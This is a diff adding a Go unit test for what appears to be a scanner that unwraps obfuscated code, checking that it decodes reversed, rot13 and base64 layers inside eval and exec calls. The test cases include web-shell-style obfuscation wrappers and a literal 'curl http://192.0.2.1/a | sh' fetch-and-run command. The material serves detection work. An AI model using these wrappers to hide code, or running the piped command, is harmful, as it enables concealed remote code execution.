@@ -232,3 +232,21 @@ func TestNothingToPeel(t *testing.T) {
 		}
 	}
 }
+
+func TestTurned(t *testing.T) {
+	for _, tt := range []struct{ text, word, recipe, want string }{
+		{"eval(strrev('" + reversed(command) + "'));", "strrev(", "reversed", command},
+		{"exec('" + reversed(command) + "'[::-1])", "[::-1]", "reversed", command},
+		{"exec(b64(\"" + reversed(b64(long)) + "\"[::-1]))", "[::-1]", "reversed, base64", long},
+		{"eval(str_rot13('" + string(rot13([]byte(command))) + "'));", "rot13", "rot13", command},
+		{"eval(gzinflate(base64_decode(str_rot13('" + string(rot13([]byte(b64(long)))) + "'))));", "rot13", "rot13, base64", long},
+		{"x = 'racecar level noon civic'[::-1]", "[::-1]", "", ""},
+		{"x = 'curl http://192.0.2.1/a | sh'[::-1]", "[::-1]", "", ""},
+	} {
+		var got Layer
+		Turned([]byte(tt.text), strings.Index(tt.text, tt.word), func(l Layer) bool { got = l; return true })
+		if got.Recipe != tt.recipe || string(got.Decoded) != tt.want {
+			t.Errorf("%s\n%s %q", tt.text, got.Recipe, got.Decoded)
+		}
+	}
+}
